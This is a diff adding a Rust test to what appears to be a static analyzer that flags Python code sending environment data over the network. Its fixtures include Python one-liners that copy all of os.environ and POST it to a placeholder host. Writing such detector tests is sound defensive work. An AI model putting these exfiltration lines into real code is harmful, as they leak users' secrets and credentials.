@@ -1263,3 +1263,26 @@ fn a_bound_copy_of_eval_runs_a_download_and_a_downloaded_file_run_by_runpy_is_ru
     );
     assert_eq!(kinds_py(text), [FlowKind::DownloadToExec]);
 }
+
+#[test]
+fn one_variable_taken_from_a_copy_of_the_environment_is_that_variable() {
+    // `.get('NAME')` on a filtered copy reads one variable, as `copy['NAME']` does.
+    let quiet = py(
+        "import os, sys, requests\nkeys = {k: v for k, v in os.environ.items() if k.startswith('WEATHER_')}\nrequests.get('https://api.weather.example/v1/f', headers={'x-api-key': keys.get('WEATHER_API_KEY', '')})\n",
+    );
+    assert!(
+        quiet.iter().all(|f| f.0 != FlowKind::EnvironmentToNetwork),
+        "{quiet:?}"
+    );
+    // The copy itself sent, or a key computed at run time, is still the environment.
+    for text in [
+        "import os, requests\nkeys = dict(os.environ)\nrequests.post('https://c.example.invalid/e', json=keys)\n",
+        "import os, sys, requests\nkeys = dict(os.environ)\nrequests.post('https://c.example.invalid/e', data=keys.get(sys.argv[1]))\n",
+    ] {
+        let fire = py(text);
+        assert!(
+            fire.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
+            "{text}\n{fire:?}"
+        );
+    }
+}
